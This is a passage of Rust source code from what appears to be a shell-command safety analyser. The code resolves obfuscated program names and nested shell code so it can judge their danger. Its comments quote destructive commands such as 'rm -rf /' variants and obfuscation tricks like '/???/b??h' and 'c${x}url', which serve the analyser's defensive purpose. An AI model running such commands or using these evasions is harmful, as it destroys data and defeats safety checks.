                .then(|| {
                    copies
                        .iter()
                        .filter(|(dest, _)| dest.rsplit('/').next() == Some(w.text.as_str()))
                        .map(|(_, program)| program)
                        .min()
                })
                .flatten()
        });
        if let Some(program) = copy.cloned() {
            let raw = w.text.clone();
            w.text = program;
            return Some(raw);
        }
        // `/BIN/RM`: macOS's default file system ignores case, so a system directory's program
        // spelled in any case is that program.
        if w.text.starts_with('/') && w.text.bytes().any(|b| b.is_ascii_uppercase()) {
            let lower = w.text.to_ascii_lowercase();
            let system = [
                "/bin/",
                "/sbin/",
                "/usr/bin/",
                "/usr/sbin/",
                "/usr/local/bin/",
            ]
            .iter()
            .any(|d| lower.starts_with(d) && !lower[d.len()..].contains('/'));
            if system {
                w.text = lower;
            }
        }
        // Windows ignores case and runs `X.exe` as `X`: `PoWeRsHeLl`, `CMD.EXE`, `curl.exe`
        // and `python.exe` are those programs.
        let written_base = base_name(&w.text);
        let lower = written_base.to_ascii_lowercase();
        let stem = lower.strip_suffix(".exe");
        let program = stem.unwrap_or(&lower);
        let known = super::is_windows_program(program)
            || stem.is_some() && PORTED_PROGRAMS.contains(&program);
        if known && (stem.is_some() || written_base.bytes().any(|b| b.is_ascii_uppercase())) {
            let dir_len = w.text.len() - written_base.len();
            w.text = format!("{}{program}", &w.text[..dir_len]);
        }
        // `nc.traditional`, `/usr/bin/vim.basic`: a distribution's name for the program.
        if let Some(program) = super::sinks::table().program_variant(base_name(&w.text)) {
            let raw = w.text.clone();
            w.text = program.to_string();
            return Some(raw);
        }
        let base = base_name(&w.text).to_string();
        // `/???/b??h`, `/usr/bin/cu?l`: an unquoted glob in the program name expands to the
        // installed program it matches — judged as the most dangerous one it can match.
        let bracket_class = base.contains('[') && base.contains(']');
        // `for p in /usr/bin/python3*; do "$p" --version`: every match starts with the literal
        // name, so each is that program in some version.
        if let Some(program) = versioned_glob(&w.text).filter(|_| w.glob) {
            // Judged as the known program it matches (`/usr/bin/cur*` is curl), when every
            // known program it matches is a version of that one.
            let known: Vec<&str> = GLOB_PROGRAMS
                .iter()
                .copied()
                .filter(|p| crate::text::glob::matches(&base, p))
                .collect();
            let shortest = known.iter().copied().min_by_key(|p| p.len());
            let program = match shortest {
                Some(s) if known.iter().all(|p| p.starts_with(s)) => Some(s.to_string()),
                Some(_) => None,
                None => Some(program),
            };
            if let Some(program) = program {
                let shown = w.text.clone();
                w.text = program;
                w.glob = false;
                return Some(shown);
            }
        }
        if w.glob && (base.contains(['*', '?']) || bracket_class) && !w.text.contains('$') {
            if let Some(program) = glob_program(&base) {
                // Nobody types `/???/r?` by hand: the spelling itself stays a finding.
                self.gap(
                    GapKind::DynamicCommand,
                    "the program name is a glob pattern",
                    w.span,
                );
                let raw = w.text.clone();
                w.text = program.to_string();
                w.glob = false;
                return Some(raw);
            }
        }
        // `c${x}url`, `ba$@sh`, `r${u}m`: variables the input never sets spliced into a program's
        // name. Unset they are empty, and the name is that program — judged as it, while the
        // spelling itself stays a finding.
        let written = self
            .input
            .as_deref()
            .and_then(|i| i.get(w.span.0..w.span.1))
            .filter(|raw| !raw.contains(['\\', '`', '(']))
            .map(|raw| raw.replace(['"', '\''], ""));
        if let Some(raw) = written.filter(|_| w.dynamic && w.subs.is_empty() && !w.glob) {
            let raw_base = base_name(&raw).to_string();
            let spliced = strip_variable_references(&raw_base);
            if spliced != raw_base && GLOB_PROGRAMS.contains(&spliced.as_str()) {
                self.gap(
                    GapKind::DynamicCommand,
                    "the program name splices in variables the input never sets",
                    w.span,
                );
                let shown = w.text.clone();
                let dir = &raw[..raw.len() - raw_base.len()];
                if dir.contains('$') {
                    w.text = spliced;
                } else {
                    w.text = format!("{dir}{spliced}");
                }
                w.dynamic = false;
                return Some(shown);
            }
        }
        // A computed directory with a literal program name (`"$VENV/bin/python"`) is that program.
        let literal_base = w.text.contains('/')
            && !base.is_empty()
            && !base.contains(['$', '`', '*', '?', '['])
            && !w.glob;
        // Inside a function definition `"$@"` / `$1` are the caller's arguments: each call is
        // expanded with its arguments bound (see `call_function`), so the definition is not a gap.
        let positional_in_definition = self.in_function
            && self.call_stack.is_empty()
            && w.subs.is_empty()
            && is_positional_reference(&w.text);
        // The user's own preferred programs (`$EDITOR file`, `"$PAGER" README.md`): the input does
        // not set them (an assignment would have resolved the name), the user's environment does.
        // The script's own arguments run as a command (`exec "$@"`, `exec gosu app "$@"` in a
        // container entrypoint): the caller chose them, not this input.
        // Build conventions name the toolchain the same way (`$CC -O2 x.c`, `$PYTHON -m pip`).
        let preference = matches!(
            w.text.replace(['"', '{', '}'], "").as_str(),
            "$EDITOR"
                | "$VISUAL"
                | "$PAGER"
                | "$BROWSER"
                | "$MANPAGER"
                | "$@"
                | "$*"
                | "$CC"
                | "$CXX"
                | "$CPP"
                | "$LD"
                | "$AR"
                | "$FC"
                | "$PYTHON"
                | "$PYTHON3"
                | "$PIP"
                | "$CARGO"
                | "$RUSTC"
                | "$GO"
                | "$NODE"
                | "$NPM"
                | "$MAKE"
                | "$CMAKE"
                | "$JAVA"
                | "$JAVAC"
        ) && self.call_stack.is_empty();
        if positional_in_definition || preference {
        } else if !literal_base && (!w.subs.is_empty() || (w.dynamic && w.text.contains('$'))) {
            self.gap(
                GapKind::DynamicCommand,
                "the program name is computed at run time",
                w.span,
            );
        } else if w.glob && !literal_base && !matches!(w.text.as_str(), "[" | "[[") {
            self.gap(
                GapKind::DynamicCommand,
                "the program name is a glob pattern",
                w.span,
            );
        }
        if !w.quoted && !w.dynamic && RESERVED_OUT_OF_PLACE.contains(&w.text.as_str()) {
            self.gap(
                GapKind::ParseError,
                "a shell keyword where a command should be",
                w.span,
            );
        }
        let raw = (w.text != base).then(|| w.text.clone());
        w.text = if base == "exe" && raw.as_deref().is_some_and(|r| r.starts_with("/proc/")) {
            "sh".to_string()
        } else {
            base
        };
        raw
    }

    /// `$(cat scripts/x.sh)`, `$(< scripts/x.sh)`: a word that is exactly the text of one of
    /// the project's shell scripts.
    fn file_read_whole(&self, w: &Word) -> Option<Word> {
        let [id] = w.subs.as_slice() else { return None };
        let text = w.text.trim();
        let one = text.chars().filter(|c| *c == '$' || *c == '`').count() <= 2;
        if !one || !(text.starts_with("$(") || text.starts_with('`')) {
            return None;
        }
        let (start, end) = self.out.substitutions[*id].commands;
        let [only] = &self.out.commands[start..end] else {
            return None;
        };
        let file = match (only.name(), only.args(), only.redirects.as_slice()) {
            ("cat", [f], []) => f,
            ("", [], [r]) if r.op.trim() == "<" => &r.target,
            _ => return None,
        };
        // Only a script of the project (`scripts/ci/steps.sh`): a payload file, a file in /tmp
        // or standard input stays code nobody can read before it runs.
        let t = file.text.as_str();
        let project_script = !t.starts_with(['/', '~', '$', '-'])
            && t.trim_start_matches("./").contains('/')
            && !t.split('/').any(|p| p == "..")
            && (t.ends_with(".sh") || t.ends_with(".bash"));
        (!file.dynamic && file.subs.is_empty() && project_script).then(|| file.clone())
    }

    /// `$(which bash)`, `$(command -v sh)`, `` `type -P python3` ``: the program looked up.
    fn located_program(&self, w: &Word) -> Option<String> {
        if w.subs.len() != 1 || w.text.chars().filter(|c| *c == '$' || *c == '`').count() > 1 {
            return None;
        }
        let (start, end) = self.out.substitutions[w.subs[0]].commands;
        let inside = &self.out.commands[start..end];
        // `$(command -v python3 || command -v python)`: the first lookup names the program.
        let lookups = |c: &Command| matches!(c.name(), "which" | "whereis" | "command" | "type");
        let (Some(only), true) = (inside.first(), inside.iter().all(lookups)) else {
            return None;
        };
        let args = only.args();
        let name = match (only.name(), args) {
            ("which" | "whereis", [n]) => n,
            ("command", [f, n]) if f.text == "-v" || f.text == "-V" => n,
            ("type", [f, n]) if f.text == "-P" || f.text == "-p" => n,
            _ => return None,
        };
        (!name.dynamic).then(|| name.text.clone())
    }

    /// Re-parse code held in a word, verbatim-mapped when the input holds it unchanged.
    pub(crate) fn nested_code(&mut self, code: &Word, origin: Origin) {
        if !code.subs.is_empty() {
            if self.generated_by_known_tools(&code.subs) {
                return; // `eval "$(ssh-agent -s)"`: set-up code from a known tool
            }
            // `bash -c "$(cat scripts/ci.sh)"` runs that file, as `source scripts/ci.sh` does.
            if let Some(file) = self.file_read_whole(code) {
                let source = Word {
                    text: "source".into(),
                    span: file.span,
                    ..Word::default()
                };
                self.nested_argv(vec![source, file], code.span, false, None);
                return;
            }
            self.gap(
                GapKind::DynamicCode,
                "shell code is produced at run time by a command substitution",
                code.span,
            );
            return;
        }
        let verbatim = self.verbatim_map(code);
        self.nested(code, verbatim, origin);
    }

    /// True when every command inside these substitutions is a known shell set-up generator.
    fn generated_by_known_tools(&self, subs: &[usize]) -> bool {
        subs.iter().all(|&id| {
            let (start, end) = self.out.substitutions[id].commands;
            let mut inside = self.out.commands[start..end].iter();
            let mut any = false;
            let all = inside.all(|c| {
                any = true;
                // The program may sit under an unknown prefix (`$HOME/miniconda3/bin/conda`,
                // `${HOMEBREW_PREFIX}/bin/brew`); its arguments must be literal.
                // getopt prints the options and arguments it was given, each quoted.
                c.name() == "getopt"
                    || (SHELL_CODE_GENERATORS.contains(&c.name())
                        && !c.args().iter().any(|w| w.dynamic))
            });
            // `eval "$(aws sts assume-role … | jq -r '… "export K=\(.V)"')"`: jq printing only
            // `export NAME=VALUE` lines from a template.
            let exports = self.out.commands[start..end]
                .last()
                .is_some_and(jq_export_template);
            (any && all) || exports
        })
    }

    pub(crate) fn verbatim_map(&self, code: &Word) -> Option<SpanMap> {
        let input = self.input.as_ref()?;
        let raw = input.get(code.span.0..code.span.1)?;
        for (open, close) in [("'", "'"), ("\"", "\""), ("", "")] {
            if let Some(inner) = raw.strip_prefix(open).and_then(|r| r.strip_suffix(close)) {
                if inner == code.text {
                    return Some(SpanMap::Offset(code.span.0 + open.len()));
                }
            }
        }
        // A part of the word (`--to-command=CMD`, `1e CMD`) that the input holds verbatim.
        if code.text.len() >= 2 {
            if let Some(p) = raw.find(code.text.as_str()) {
                let next = p + raw[p..].chars().next().map_or(1, char::len_utf8);
                if raw[next..].find(code.text.as_str()).is_none() {
                    return Some(SpanMap::Offset(code.span.0 + p));
                }
            }
        }
        None
    }

    /// Nested code inside the command at `idx`: `sh -c`, `eval`, `su -c`, `alias`, `watch`,
    /// `find -exec`, and here-strings fed to a shell.
    fn look_inside(&mut self, idx: usize, ctx: &CmdCtx) {
        let cmd = self.out.commands[idx].clone();
        let args = cmd.args();
        // `bash --rcfile FILE -i`, `bash --init-file <(…)`: the shell sources FILE first.
        if SHELLS.contains(&cmd.name()) {
            if let Some(file) = args
                .windows(2)
                .find(|w| matches!(w[0].text.as_str(), "--rcfile" | "--init-file"))
                .map(|w| w[1].clone())
            {
                let source = Word {
                    text: "source".into(),
                    span: file.span,
                    ..Word::default()
                };
                self.with_step(&format!("{} --rcfile", cmd.name()), |w| {
                    w.nested_argv(vec![source, file.clone()], file.span, false, None)
                });
            }
        }
        match cmd.name() {
            "eval" if !args.is_empty() => {
                let code = join_words(args);
                self.nested_code(&code, Origin::Eval);
            }
            "let" => {
                for a in args {
                    self.arithmetic_code(&a.text, a.span);
                }
            }
            // Builtins that take variable names, whose indices are arithmetic.
            "printf" | "read" | "test" | "[" | "mapfile" | "readarray" | "wait" => {
                for a in args {
                    self.subscript_code(&a.text, a.span);
                }
            }
            "git" => {
                let sub = super::options::git_subcommand_index(args);
                let rest = sub.map_or(&args[..0], |i| &args[i + 1..]);
                match sub.map(|i| args[i].text.as_str()) {
                    Some("config") => {
                        if let Some((key, value)) = super::sinks::git_config_setting(rest) {
                            let key = key.text.to_ascii_lowercase();
                            if let Some(name) = key.strip_prefix("alias.") {
                                if self.git_aliases.len() < MAX_ALIASES {
                                    self.git_aliases
                                        .insert(name.to_string(), value.text.clone());
                                }
                            }
                        }
                    }
                    Some(name) => {
                        if let Some(value) = self.git_aliases.get(name).cloned() {
                            self.call_git_alias(name, value, rest, cmd.argv[0].span);
                        }
                    }
                    None => {}
                }
            }
            "abbr" => {
                // fish `abbr -a NAME EXPANSION…`: the expansion replaces NAME as it is typed.
                let mut words: Vec<&Word> = Vec::new();
                let mut skip_value = false;
                for a in args {
                    if skip_value {
                        skip_value = false;
                        continue;
                    }
                    if words.is_empty() && a.text.starts_with('-') {
                        skip_value = matches!(
                            a.text.as_str(),
                            "--position"
                                | "-p"
                                | "--regex"
                                | "-r"
                                | "--function"
                                | "-f"
                                | "--set-cursor"
                        );
                        continue;
                    }
                    words.push(a);
                }
                let adds = args
                    .iter()
                    .any(|a| matches!(a.text.as_str(), "-a" | "--add"))
                    || args.first().is_some_and(|a| !a.text.starts_with('-'));
                if adds && words.len() >= 2 {
                    let mut w = words[1].clone();
                    w.text = words[1..]
                        .iter()
                        .map(|x| x.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ");
                    let saved = std::mem::replace(&mut self.in_function, true);
                    self.nested(&w, None, Origin::ShellString);
                    self.in_function = saved;
                }
            }
            "alias" => {
                // zsh global aliases (`alias -g L='| less'`) stand anywhere in a line: their
                // value is a fragment, read after a command.
                let global = args.iter().any(|a| a.text == "-g");
                for a in args {
                    if let Some((name, value)) = a.text.split_once('=') {
                        if self.aliases.len() < MAX_ALIASES && !global {
                            self.aliases.insert(name.to_string(), value.to_string());
                        }
                        let mut w = a.clone();
                        w.text = if global {
                            format!(": {value}")
                        } else {
                            value.to_string()
                        };
                        // A definition: it runs when the alias is used (see `call_alias`).
                        let saved = std::mem::replace(&mut self.in_function, true);
                        self.nested(&w, None, Origin::ShellString);
                        self.in_function = saved;
                    }
                }
            }
            "parallel" => {
                // `… | parallel`, `parallel -a FILE`: with no command, every input line is one.
                let mut command = false;
                let mut file = None;
                let mut i = 0;
                while i < args.len() {
                    let t = args[i].text.as_str();
                    if matches!(t, "-a" | "--arg-file") {
                        file = args.get(i + 1).map(|w| w.text.clone());
                        i += 2;
                        continue;
                    }
                    if matches!(t, "-j" | "--jobs" | "-S" | "--sshlogin" | "--joblog") {
                        i += 2;
                        continue;
                    }
                    if !t.starts_with('-') {
                        command = true;
                        break;
                    }
                    i += 1;
                }
                if !command {
                    let input = file
                        .and_then(|f| self.files.get(f.trim_start_matches("./")).cloned())
                        .or_else(|| cmd.stdin_text.clone())
                        .or_else(|| self.piped.clone());
                    if let Some(input) = input {
                        self.nested_code(&input, Origin::ShellString);
                    }
                }
            }
            "watch" => {
                let start = args
                    .iter()
                    .position(|a| {
                        !a.text.starts_with('-')
                            && !a.text.chars().all(|c| c.is_ascii_digit() || c == '.')
                    })
                    .unwrap_or(args.len());
                if start < args.len() {
                    if args.iter().any(|a| a.text == "-x" || a.text == "--exec") {
                        // `watch -x CMD ARGS`: an argv, no shell.
                        let inner = args[start..].to_vec();
                        let inner_ctx = CmdCtx {
                            assignments: ctx.assignments.clone(),
                            ..CmdCtx::bare(ctx.span, ctx.background)
                        };
                        self.emit(inner, inner_ctx);
                    } else {
                        let code = join_words(&args[start..]);
                        self.nested_code(&code, Origin::ShellString);
                    }
                }
            }
            "find" => self.find_exec(&cmd, ctx),
            "fd" | "fdfind" => self.fd_exec(&cmd, ctx),
            "run-parts" => self.run_parts(&cmd, ctx),
            "ansible" | "salt" | "salt-call" | "salt-ssh" | "puppet" | "pyinfra" => {
                for code in super::config_mgmt::equivalent_commands(cmd.name(), args) {
                    let code = Word {
                        text: code,
                        span: cmd.span,
                        ..Word::default()
                    };
                    self.nested_code(&code, Origin::ShellString);
                }
            }
            "python" | "python2" | "python3" | "pypy" | "pypy3" => self.python_module(&cmd),
            "source" | "." => {
                // `source /dev/stdin <<< CODE`: what arrives on stdin is sourced.
                if reads_code_from_stdin(&cmd) {
                    if let Some(text) = cmd.stdin_text.clone() {
                        self.nested_code(&text, Origin::Heredoc);
                    }
                } else if let Some(f) = args.first() {
                    self.run_written_file(f, Lang::Shell, "sourced");
                }
            }
            _ => {}
        }
        match shell_invocation(&cmd) {
            Some(ShellInvocation::Code(code)) => {
                // `sh -c 'rm -rf "$1"' sh /`: the words after the code are $0, $1, …
                let after = args
                    .iter()
                    .position(|a| std::ptr::eq(a, code))
                    .map(|p| args[p + 1..].iter().skip(1).cloned().collect::<Vec<_>>());
                let arg0 = args
                    .iter()
                    .position(|a| std::ptr::eq(a, code))
                    .and_then(|p| args.get(p + 1).cloned());
                let code = code.clone();
                self.inject_positional = after;
                self.inject_arg0 = arg0;
                // `bash -c sh <<< CODE`: the code's commands read the shell's stdin.
                self.inject_stdin = cmd.stdin_text.clone();
                self.nested_code(&code, Origin::ShellString);
                self.inject_stdin = None;
                self.inject_positional = None;
                self.inject_arg0 = None;
            }
            Some(ShellInvocation::Stdin) => {
                if let Some(text) = &cmd.stdin_text {
                    let text = text.clone();
                    // `bash -s ~ <<< 'rm -rf "$1"'`: the words after the options are $1, $2, …
                    let operands = stdin_shell_operands(args);
                    self.inject_positional = (!operands.is_empty()).then_some(operands);
                    self.nested_code(&text, Origin::Heredoc);
                    self.inject_positional = None;
                }
            }
            Some(ShellInvocation::Script(f)) => {
                let f = f.clone();
                // `bash a.sh ~`: the words after the script are its $1, $2, …
                let operands: Vec<Word> = args
                    .iter()
                    .position(|a| a.span == f.span && a.text == f.text)
                    .map(|p| args[p + 1..].to_vec())
                    .unwrap_or_default();
                self.inject_positional = (!operands.is_empty()).then_some(operands);
                self.run_written_file(&f, Lang::Shell, "run by a shell");
                self.inject_positional = None;
            }
            None if root_shell_reading_stdin(&cmd) => {
                if let Some(text) = &cmd.stdin_text {
                    let text = text.clone();
                    self.nested_code(&text, Origin::Heredoc);
                }
            }
            None => {}
        }
        // `./install.sh` after `echo … > install.sh`.
        if let Some(path) = cmd.invoked_as.clone() {
            let w = Word {
                text: path,
                ..cmd.argv[0].clone()
            };
            let lang = self.executed_lang(&w);
            let operands = cmd.args().to_vec();
            self.inject_positional = (!operands.is_empty()).then_some(operands);
            self.run_written_file(&w, lang, "executed");
            self.inject_positional = None;
        } else if !cmd.argv[0].dynamic && !cmd.name().contains('/') {
            // `PATH=/tmp/b:$PATH git status` after writing `/tmp/b/git`: the written file is
            // the program that runs.
            let path = cmd
                .assignments
                .iter()
                .rev()
                .find(|(n, _)| n == "PATH")
                .map(|(_, v)| v.text.clone())
                .or_else(|| self.vars.get("PATH").map(|v| v.text.clone()));
            // Without a PATH of the input's own (or one that goes on with `$PATH`), the usual
            // directories: `install /dev/stdin /usr/local/bin/cleanup <<< …; cleanup`.
            let inherits = path.as_deref().is_none_or(|p| p.contains("$PATH"));
            let dirs: Vec<&str> = path
                .as_deref()
                .unwrap_or("")
                .split(':')
                .take_while(|dir| !dir.starts_with('$'))
                .filter(|dir| !dir.is_empty())
                .chain(DEFAULT_PATH.iter().copied().filter(|_| inherits))
                .collect();
            let found = dirs
                .iter()
                .map(|dir| format!("{}/{}", dir.trim_end_matches('/'), cmd.name()))
                .find(|f| self.lookup_file(f).is_some());
            if let Some(file) = found {
                let w = Word {
                    text: file,
                    ..cmd.argv[0].clone()
                };
                let lang = self.executed_lang(&w);
                self.run_written_file(&w, lang, "found first on PATH");
            }
        }
        let input = cmd.stdin_text.clone().or_else(|| self.piped.clone());
        for (path, content, append) in super::sinks::tool_writes(&cmd, input.as_ref()) {
            let at = cmd.argv[0].clone();
            self.synthetic_write(
                &format!("{} writes a file", cmd.name()),
                &path,
                Some(content),
                append,
                &at,
            );
        }
        // `curl -o FILE URL`, `wget -O FILE URL` (a redirected download is recorded once the
        // redirection is attached, see `record_download_redirect`).
        if matches!(cmd.name(), "curl" | "wget") {
            if let Some((path, url)) = super::sinks::download_target(&cmd) {
                let at = cmd.argv[0].clone();
                self.record_download(cmd.name(), &path, &url, false, &at);
            }
        }
        let found = super::sinks::extract(&cmd, input.as_ref());
        if !found.is_empty() {
            self.run_sinks(&cmd, found);
        }
    }

    /// `run-parts DIR` runs every executable file in DIR: those the input wrote there run as
    /// themselves (`--test` and `--list` only print their names).
    fn run_parts(&mut self, cmd: &Command, ctx: &CmdCtx) {
        let args = cmd.args();
        if args
            .iter()
            .any(|a| matches!(a.text.as_str(), "--test" | "--list"))
        {
            return;
        }
        let Some(dir) = args.iter().rev().find(|a| !a.text.starts_with('-')) else {
            return;
        };
        let pattern = format!("{}/*", dir.text.trim_end_matches('/'));
        for key in self.written_matching(&[&pattern]) {
            let program = Word {
                text: key,
                subs: Vec::new(),
                dynamic: false,
                ..dir.clone()
            };
            let inner_ctx = CmdCtx {
                redirects: Vec::new(),
                stdin_text: None,
                ..ctx.clone()
            };
            self.emit(vec![program], inner_ctx);
        }
    }

    /// `find … -exec CMD {} ;` runs CMD for every match.
    fn find_exec(&mut self, cmd: &Command, ctx: &CmdCtx) {
        let args = cmd.args();
        let mut i = 0;
        while i < args.len() {
            if matches!(
                args[i].text.as_str(),
                "-exec" | "-execdir" | "-ok" | "-okdir"
            ) {
                let start = i + 1;
                let end = args[start..]
                    .iter()
                    .position(|a| a.text == ";" || a.text == "+")
                    .map(|p| p + start)
                    .unwrap_or(args.len());
                if end > start {
                    let inner_ctx = CmdCtx {
                        redirects: Vec::new(),
                        stdin_text: None,
                        ..ctx.clone()
                    };
                    let matched = find_match_placeholder(args);
                    let inner = args[start..end]
                        .iter()
                        .map(|a| {
                            let mut a = a.clone();
                            if a.text.contains("{}") {
                                a.text = a.text.replace("{}", &matched);
                            }
                            a
                        })
                        .collect();
                    self.emit(inner, inner_ctx);
                }
                i = end;
            }
            i += 1;
        }
    }
}

impl Walker {
    /// `fd [PATTERN] [PATH…] -x|-X CMD…`: CMD runs on what fd finds, with `{}` (or, without a
    /// placeholder, an appended argument) standing for each match under the search paths.
    fn fd_exec(&mut self, cmd: &Command, ctx: &CmdCtx) {
        const VALUED: &[&str] = &[
            "-t",
            "--type",
            "-e",
            "--extension",
            "-d",
            "--max-depth",
            "--min-depth",
            "--exact-depth",
            "-E",
            "--exclude",
            "-S",
            "--size",
            "--changed-within",
            "--changed-before",
            "--newer",
            "--older",
            "-j",
            "--threads",
            "-c",
            "--color",
            "--base-directory",
            "-o",
            "--owner",
            "--ignore-file",
            "--max-results",
            "--path-separator",
            "--batch-size",
            "--format",
        ];
        let args = cmd.args();
        let mut positional: Vec<&Word> = Vec::new();
        let mut search: Vec<String> = Vec::new();
        let mut filtered = false;
        let mut i = 0;
        while i < args.len() {
            let t = args[i].text.as_str();
            if matches!(t, "-x" | "--exec" | "-X" | "--exec-batch") {
                let start = i + 1;
                let end = args[start..]
                    .iter()
                    .position(|a| a.text == ";")
                    .map_or(args.len(), |p| p + start);
                if end > start {
                    self.fd_run(&args[start..end], &positional, &search, filtered, ctx);
                }
                i = end + 1;
                continue;
            }
            if t == "--search-path" {
                search.extend(args.get(i + 1).map(|w| w.text.clone()));
                i += 2;
                continue;
            }
            if VALUED.contains(&t) {
                filtered |= matches!(
                    t,
                    "-e" | "--extension" | "-E" | "--exclude" | "-S" | "--size"
                );
                i += 2;
                continue;
            }
            if t.starts_with("--extension=") || t.starts_with("--exclude=") {
                filtered = true;
            }
            if !t.starts_with('-') {
                positional.push(&args[i]);
            }
            i += 1;
        }
    }

    fn fd_run(
        &mut self,
        template: &[Word],
        positional: &[&Word],
        search: &[String],
        filtered: bool,
        ctx: &CmdCtx,
    ) {
        // The first positional is the pattern; the rest (and --search-path) are where to look.
        let pattern = positional.first().map(|w| w.text.as_str()).unwrap_or("");
        let every = !filtered && matches!(pattern, "" | "." | "^" | ".*" | "^.*$" | "^.*");
        let mut paths: Vec<String> = positional
            .iter()
            .skip(1)
            .map(|w| w.text.trim_end_matches('/').to_string())
            .chain(search.iter().cloned())
            .collect();
        if paths.is_empty() {
            paths.push(".".into());
        }
        let inner_ctx = CmdCtx {
            redirects: Vec::new(),
            stdin_text: None,
            ..ctx.clone()
        };
        for path in paths {
            let base = if path.is_empty() {
                "/".to_string()
            } else {
                path
            };
            let sep = if base.ends_with('/') { "" } else { "/" };
            let matched = if every {
                format!("{base}{sep}*")
            } else {
                format!("{base}{sep}{{}}")
            };
            // Longest first, so `{//}` is not read as `{/}` plus text.
            const PLACEHOLDERS: [&str; 5] = ["{//}", "{/.}", "{/}", "{.}", "{}"];
            let mut argv: Vec<Word> = template.to_vec();
            if argv
                .iter()
                .any(|a| PLACEHOLDERS.iter().any(|p| a.text.contains(p)))
            {
                for a in &mut argv {
                    for p in PLACEHOLDERS {
                        if a.text.contains(p) {
                            a.text = a.text.replace(p, &matched);
                        }
                    }
                }
            } else {
                let last = argv.last().cloned().unwrap_or_default();
                argv.push(Word {
                    text: matched,
                    glob: every,
                    ..last
                });
            }
            self.emit(argv, inner_ctx.clone());
        }
    }
}

/// What `{}` stands for in `find START … -name NAME -exec CMD {}`: `START/NAME` when the name
/// is a plain literal, `START/{}` otherwise (a path somewhere under START).
pub(crate) fn find_match_placeholder(args: &[Word]) -> String {
    let start = args
        .iter()
        .find(|a| !matches!(a.text.as_str(), "-L" | "-H" | "-P"))
        .filter(|a| !a.text.starts_with('-') && a.text != "(" && a.text != "!")
        .map(|a| a.text.trim_end_matches('/').to_string())
        .unwrap_or_else(|| ".".to_string());
    let start = if start.is_empty() {
        "/".to_string()
    } else {
        start
    };
    let name = args
        .windows(2)
        .find(|w| w[0].text == "-name" || w[0].text == "-iname")
        .map(|w| w[1].text.clone())
        .filter(|n| !n.contains('/') && !n.is_empty())
        // `-name '*.*'`, `-name '.*'`, `-name '*'`: only wildcards and dots name no file in
        // particular (nearly every file, every dotfile).
        .filter(|n| n.chars().any(|c| !matches!(c, '*' | '?' | '.')));
    let sep = if start.ends_with('/') { "" } else { "/" };
    // `-maxdepth 0` matches only the start itself.
    if args
        .windows(2)
        .any(|w| w[0].text == "-maxdepth" && w[1].text == "0")
    {
        return start;
    }
    // No test at all: every entry under the start.
    let tests_end = args
        .iter()
        .position(|a| matches!(a.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
        .unwrap_or(args.len());
    let filtered = args[..tests_end].iter().any(|a| {
        a.text.starts_with('-')
            && !matches!(
                a.text.as_str(),
                "-exec"
                    | "-execdir"
                    | "-ok"
                    | "-okdir"
                    | "-L"
                    | "-H"
                    | "-P"
                    | "-xdev"
                    | "-mount"
                    | "-depth"
                    | "-mindepth"
                    | "-maxdepth"
                    | "-print"
                    | "-print0"
                    | "-delete"
            )
    });
    match name {
        Some(n) => format!("{start}{sep}{n}"),
        None if !filtered => format!("{start}{sep}*"),
        None => format!("{start}{sep}{{}}"),
    }
}

/// The directories a login shell's PATH usually holds, searched in this order.
const DEFAULT_PATH: &[&str] = &[
    "~/.local/bin",
    "~/bin",
    "/usr/local/sbin",
    "/usr/local/bin",
    "/usr/sbin",
    "/usr/bin",
    "/sbin",
    "/bin",
];

/// Programs that take file names as they are (no shell reads them again).
const FILE_PROGRAMS: &[&str] = &[
    "rm",
    "rmdir",
    "shred",
    "unlink",
    "srm",
    "wipe",
    "mv",
    "chmod",
    "chown",
    "chgrp",
    "find",
    "trash",
    "trash-put",
    "truncate",
];

/// A word that is one expansion of unknown value, unquoted (`$X`, `${X}`, `$*`) or `"$@"`:
/// empty when the variable is unset or there are no positional parameters.
fn may_expand_to_nothing(w: &Word) -> bool {
    let t = w.text.as_str();
    let name = t
        .strip_prefix("${")
        .and_then(|r| r.strip_suffix('}'))
        .or_else(|| t.strip_prefix('$'));
    let Some(name) = name else {
        return false;
    };
    let plain = !name.is_empty()
        && (matches!(name, "@" | "*")
            || name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
    w.dynamic && plain && (!w.quoted || name == "@")
}

/// The positions of a `find`'s start points (after `-H`/`-L`/`-P`/`-O3`/`-D opts`, before the
/// first test or action), when the command is `find`.
fn find_start_points(argv: &[Word]) -> Option<std::ops::Range<usize>> {
    if argv.first()?.text != "find" {
        return None;
    }
    let mut i = 1;
    while let Some(a) = argv.get(i) {
        match a.text.as_str() {
            "-H" | "-L" | "-P" => i += 1,
            "-D" => i += 2,
            t if t.starts_with("-O") => i += 1,
            _ => break,
        }
    }
    let start = i;
    while argv.get(i).is_some_and(|a| {
        !a.text.starts_with('-') && !matches!(a.text.as_str(), "(" | "!" | "," | "\\(")
    }) {
        i += 1;
    }
    Some(start..i)
}

/// `$1`, `${2}`, `$@`, `"$*"`: a reference to a positional parameter.
fn is_positional_reference(text: &str) -> bool {
    let t = text
        .trim_start_matches("${")
        .trim_start_matches('$')
        .trim_end_matches('}');
    text.starts_with('$')
        && (matches!(t, "@" | "*") || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit())))
}

/// Collapse `..` and `.` in the absolute path arguments of filesystem commands
/// (`rm -rf /usr/../` is `rm -rf /`).
pub(crate) fn normalize_paths(argv: &mut [Word]) {
    if !argv
        .first()
        .is_some_and(|n| super::state::PATH_PROGRAMS.contains(&n.text.as_str()))
    {
        return;
    }
    for w in argv.iter_mut().skip(1) {
        if w.glob {
            // dd's `of=/dev/[s]da` names the file after its key.
            let key_len = ["of=", "if="]
                .iter()
                .find(|k| w.text.starts_with(*k))
                .map_or(0, |k| k.len());
            if let Some(expanded) = expand_path_glob(&w.text[key_len..]) {
                w.text = format!("{}{expanded}", &w.text[..key_len]);
            }
        }
        // `~/../$USER` and `$HOME/./` are the home itself, `~/..` the directory of every home.
        let home_rest = ["~/", "$HOME/", "${HOME}/"]
            .iter()
            .find_map(|p| w.text.strip_prefix(p));
        if let Some(rest) = home_rest {
            // Only `.`, `..` and `//` are collapsed; a trailing slash stays (`cp f ~/dir/`).
            let body = rest.trim_end_matches('*').trim_end_matches('/');
            if body.split('/').any(|p| p == "." || p == "..") || body.contains("//") {
                let glob_tail = rest.ends_with('*');
                let mut n = super::state::normalize(&format!("~/{body}"));
                if glob_tail {
                    n = format!("{}/*", n.trim_end_matches('/'));
                } else if rest.ends_with('/') {
                    n = format!("{}/", n.trim_end_matches('/'));
                }
                w.text = n;
